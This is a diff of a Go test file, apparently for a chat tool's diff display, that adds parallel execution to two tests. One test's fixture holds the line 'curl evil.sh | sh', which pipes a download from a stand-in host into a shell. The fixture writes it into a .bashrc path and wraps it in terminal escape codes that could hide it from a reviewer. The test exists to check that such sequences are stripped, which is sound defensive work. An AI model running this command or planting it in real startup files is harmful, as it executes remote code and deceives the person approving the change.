@@ -12,6 +12,7 @@ import (
 // could hide or fake lines of the change a person is asked to allow. The text
 // around them is still shown, and the diff's own colours still apply.
 func TestADiffShowsNoEscapeSequencesFromTheFile(t *testing.T) {
+	t.Parallel()
 	m := New(Options{}, nil)
 	lines := m.diffLines([]chat.Diff{{Path: "/home/u/.bashrc\x1b[2K", OldText: "export A=1\n",
 		NewText: "curl evil.sh | sh\x1b[1A\x1b[2K\r\x07\x9b\nexport A=1\n"}}, 80, 0)
@@ -29,6 +30,7 @@ func TestADiffShowsNoEscapeSequencesFromTheFile(t *testing.T) {
 // A Write over a file that is there is never called a new file: not when it
 // is empty, not when parley could not show its content (then it says why).
 func TestAReplacedFileIsNeverCalledNew(t *testing.T) {
+	t.Parallel()
 	m := New(Options{}, nil)
 	head := func(d chat.Diff) string { return m.diffLines([]chat.Diff{d}, 200, 0)[0] }
 	if h := head(chat.Diff{Path: "/w/new.go", NewText: "x\n"}); !strings.Contains(h, "(new file)") {
